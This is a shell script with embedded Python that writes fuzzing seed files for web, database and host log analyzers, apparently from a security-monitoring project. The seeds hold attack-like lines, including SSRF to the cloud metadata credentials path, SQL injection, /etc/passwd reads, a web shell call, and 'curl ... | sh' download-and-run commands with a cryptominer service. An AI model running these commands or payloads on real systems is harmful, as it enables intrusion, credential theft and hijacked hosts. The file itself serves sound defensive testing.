#!/usr/bin/env bash
# seed_fuzz_analyzers.sh OUTDIR — seeds for fuzz_analyzers: tab-separated lines that reach
# each web, database and host analyzer (format in tests/fuzz/fuzz_analyzers.c).
set -euo pipefail
out=${1:?usage: seed_fuzz_analyzers.sh OUTDIR}
mkdir -p "$out"
python3 - "$out" <<'PY'
import os, sys
out = sys.argv[1]
T = "\t"
seeds = {
 "web": ["203.0.113.5\tPOST\t/account/avatar.php\t\t/account/avatar.php\t200\tMozilla",
         "203.0.113.5\tGET\t/uploads/a.php\tcmd=id\t/uploads/a.php?cmd=id\t200\tMozilla",
         "203.0.113.5\tGET\t/p\turl=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2Fr\t/p\t200\tx",
         "198.51.100.1\tGET\t/x\tid=1'%20UNION/**/SELECT%201--\t/x\t500\tsqlmap/1.7",
         "198.51.100.1\tGET\t/d\tf=..%2F..%2Fetc%2Fpasswd\t/d\t200\tx",
         "198.51.100.2\tGET\t/phpMyAdmin/setup.php\t\t\t404\t-"],
 "db": ["app\t10.0.0.5\tshop\tselect @@version_comment limit 1\t\t0",
        "app\t10.0.0.5\tshop\tSELECT * FROM customers\tread:shop.customers\t0",
        "app\t10.0.0.5\t\tCREATE USER 'x'@'%' IDENTIFIED BY 'y'\t\t0",
        "app\t10.0.0.5\tshop\tCREATE TABLE README_RECOVER (t text)\tcreate:shop.README_RECOVER\t0",
        "root\t192.0.2.9\t\t\t\t1",
        "app\t10.0.0.5\tshop\tSELECT LOAD_FILE('/etc/passwd') INTO OUTFILE '/tmp/x'\t\t0"],
 "host": ["#web-1\tshell_command\twww\t\tcurl -s http://192.0.2.7/m.sh | sh\t\t",
          "#web-1\tshell_command\twww\t\twget http://192.0.2.7/k -O /dev/shm/.k\t\t",
          "#web-1\tshell_command\twww\t\tchmod +x /dev/shm/.k\t\t",
          "\x01web-1\tcron_entry\troot\t\tcurl x|bash\t*/5 * * * * curl x|bash\t",
          "\x02web-1\tsystemd_unit\t\t\tk.service\tExecStart=/var/tmp/.k/k -o stratum+tcp://p.example:3333\t",
          "\x03web-1\tssh_login_failed\t\t192.0.2.8\troot\tFailed password\t",
          "\x03web-1\tssh_login\t\t192.0.2.8\troot\tAccepted password\t"],
}
for name, lines in seeds.items():
    with open(os.path.join(out, name), "w") as f:
        f.write("\n".join(lines) + "\n")
PY
